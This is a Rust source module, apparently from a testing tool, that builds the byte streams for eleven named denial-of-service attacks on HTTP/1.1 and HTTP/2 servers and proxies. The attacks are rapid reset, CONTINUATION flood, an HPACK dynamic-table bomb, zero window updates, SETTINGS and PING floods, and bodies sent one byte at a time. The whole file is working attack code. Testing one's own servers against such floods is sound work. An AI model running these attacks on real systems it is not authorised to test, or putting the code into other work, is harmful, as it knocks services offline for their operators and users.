//! What each attack sends: how its connections begin, and what they go on with for as long as they
//! are left alive.

use std::net::SocketAddr;

use clap::ValueEnum;

use super::{
    bytes::{
        ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, GET, HEADERS, PING, POST, PREFACE,
        RST_STREAM, SETTINGS, WINDOW_UPDATE, frame, request,
    },
    flow_control::FlowControl,
};

/// As much as a proxy may read at a time.
const WRITE: usize = 256 * 1024;
/// Almost the whole dynamic table of 4,096 bytes, with the 32 that an entry counts besides.
const BOMB_VALUE: usize = 3_900;
/// Fields that a block of the bomb has, each a byte.
const BOMB_FIELDS: usize = 4_000;
/// A literal that is put into the dynamic table, with a name of one byte, and how its value's
/// length is written.
const BOMB_FIELD: [u8; 6] = [
    0x40,
    1,
    b'x',
    0x7f,
    0x80 | ((BOMB_VALUE - 0x7f) & 0x7f) as u8,
    ((BOMB_VALUE - 0x7f) >> 7) as u8,
];
/// The newest entry of the dynamic table.
const NEWEST: u8 = 0x80 | 62;
/// `accept-encoding: gzip, deflate`, in the static table.
const STATIC: u8 = 0x80 | 16;
/// The last number that a stream of a client's can have.
const LAST_STREAM: u32 = u32::MAX >> 1;
const CANCEL: [u8; 4] = [0, 0, 0, 8];

#[derive(Clone, Copy, Debug, PartialEq, Eq, ValueEnum)]
pub(super) enum AttackKind {
    /// A request and an update of its window by nothing, over and over
    ZeroWindowUpdate,
    /// A request that is complete and data behind its end, over and over
    HalfClosedData,
    /// Empty DATA frames on one open stream
    EmptyData,
    /// Empty DATA frames that end a stream, on one that the receiver has reset
    ResetData,
    /// Header blocks of thousands of bytes, each of which stands for a large field
    HpackBomb,
    /// An HTTP/1.1 body in chunks of one byte
    TinyChunks,
    /// An HTTP/2 body in DATA frames of one byte, as far as windows admit it
    TinyData,
    /// A request and its cancellation, over and over
    RapidReset,
    /// A header block that goes on in frames of one byte
    Continuation,
    /// SETTINGS, each of which has to be acknowledged
    SettingsFlood,
    /// PING, each of which has to be answered
    PingFlood,
}

/// What one connection sends.
pub(super) struct Attack {
    kind: AttackKind,
    authority: String,
    /// Header blocks of requests without and with a body.
    get: Vec<u8>,
    post: Vec<u8>,
    /// The number of the next stream.
    next: u32,
}

impl AttackKind {
    pub(super) fn is_http2(self) -> bool {
        self != Self::TinyChunks
    }
}

impl Attack {
    pub(super) fn new(kind: AttackKind, target: SocketAddr) -> Self {
        let authority = target.to_string();
        let mut get = request(GET, &authority);
        if kind == AttackKind::HpackBomb {
            get.extend([NEWEST; BOMB_FIELDS]);
        }
        Self {
            kind,
            get,
            post: request(POST, &authority),
            authority,
            next: 1,
        }
    }

    /// What the connection begins with.
    pub(super) fn opening(&self) -> Vec<u8> {
        if !self.kind.is_http2() {
            let authority = &self.authority;
            return format!(
                "POST / HTTP/1.1\r\nhost: {authority}\r\ntransfer-encoding: chunked\r\n\r\n"
            )
            .into_bytes();
        }
        let mut bytes = PREFACE.to_vec();
        frame(&mut bytes, SETTINGS, 0, 0, &[]);
        frame(&mut bytes, SETTINGS, ACK, 0, &[]);
        bytes
    }

    /// Appends what comes next, as much as one write takes, or less where windows are closed.
    /// Returns how many streams it opens.
    pub(super) fn fill(&mut self, bytes: &mut Vec<u8>, flow_control: &mut FlowControl) -> u64 {
        let first = self.next;
        while bytes.len() < WRITE && !self.is_over() && self.append_unit(bytes, flow_control) {}
        u64::from(self.next - first) / 2
    }

    /// Whether the connection has no numbers left for streams.
    pub(super) fn is_over(&self) -> bool {
        self.next >= LAST_STREAM
    }

    /// Appends the smallest piece of the attack; whether there was one.
    fn append_unit(&mut self, bytes: &mut Vec<u8>, flow_control: &mut FlowControl) -> bool {
        match self.kind {
            AttackKind::ZeroWindowUpdate => {
                let stream = self.post(bytes);
                frame(bytes, WINDOW_UPDATE, 0, stream, &[0; 4]);
            }
            AttackKind::HalfClosedData => {
                let stream = self.get(bytes);
                frame(bytes, DATA, 0, stream, b"x");
            }
            AttackKind::EmptyData => {
                let stream = self.body(bytes, flow_control);
                frame(bytes, DATA, 0, stream, &[]);
            }
            AttackKind::ResetData => {
                if self.next == 1 {
                    let stream = self.post(bytes);
                    frame(bytes, WINDOW_UPDATE, 0, stream, &[0; 4]);
                }
                frame(bytes, DATA, END_STREAM, 1, &[]);
            }
            AttackKind::HpackBomb if self.next == 1 => self.first_bomb_request(bytes),
            AttackKind::HpackBomb => {
                self.get(bytes);
            }
            AttackKind::TinyChunks => bytes.extend_from_slice(b"1\r\nx\r\n"),
            AttackKind::TinyData => {
                let stream = self.body(bytes, flow_control);
                if flow_control.take(1) == 0 {
                    return false;
                }
                frame(bytes, DATA, 0, stream, b"x");
            }
            AttackKind::RapidReset => {
                let stream = self.get(bytes);
                frame(bytes, RST_STREAM, 0, stream, &CANCEL);
            }
            AttackKind::Continuation if self.next == 1 => {
                let stream = self.stream();
                frame(bytes, HEADERS, END_STREAM, stream, &self.get);
            }
            AttackKind::Continuation => frame(bytes, CONTINUATION, 0, 1, &[STATIC]),
            AttackKind::SettingsFlood => frame(bytes, SETTINGS, 0, 0, &[]),
            AttackKind::PingFlood => frame(bytes, PING, 0, 0, &[0; 8]),
        }
        true
    }

    /// The first request of the bomb, which puts its field into the table.
    fn first_bomb_request(&mut self, bytes: &mut Vec<u8>) {
        let stream = self.stream();
        let mut block = request(GET, &self.authority);
        block.extend(BOMB_FIELD);
        block.extend([b'v'; BOMB_VALUE]);
        frame(bytes, HEADERS, END_STREAM | END_HEADERS, stream, &block);
    }

    /// A whole request.
    fn get(&mut self, bytes: &mut Vec<u8>) -> u32 {
        let stream = self.stream();
        frame(bytes, HEADERS, END_STREAM | END_HEADERS, stream, &self.get);
        stream
    }

    /// A request whose body follows.
    fn post(&mut self, bytes: &mut Vec<u8>) -> u32 {
        let stream = self.stream();
        frame(bytes, HEADERS, END_HEADERS, stream, &self.post);
        stream
    }

    /// The request whose body is being sent; a new one when there is none any more.
    fn body(&mut self, bytes: &mut Vec<u8>, flow_control: &mut FlowControl) -> u32 {
        if let Some(stream) = flow_control.stream() {
            return stream;
        }
        let stream = self.post(bytes);
        flow_control.open(stream);
        stream
    }

    fn stream(&mut self) -> u32 {
        let stream = self.next;
        self.next += 2;
        stream
    }
}

#[cfg(test)]
mod tests;
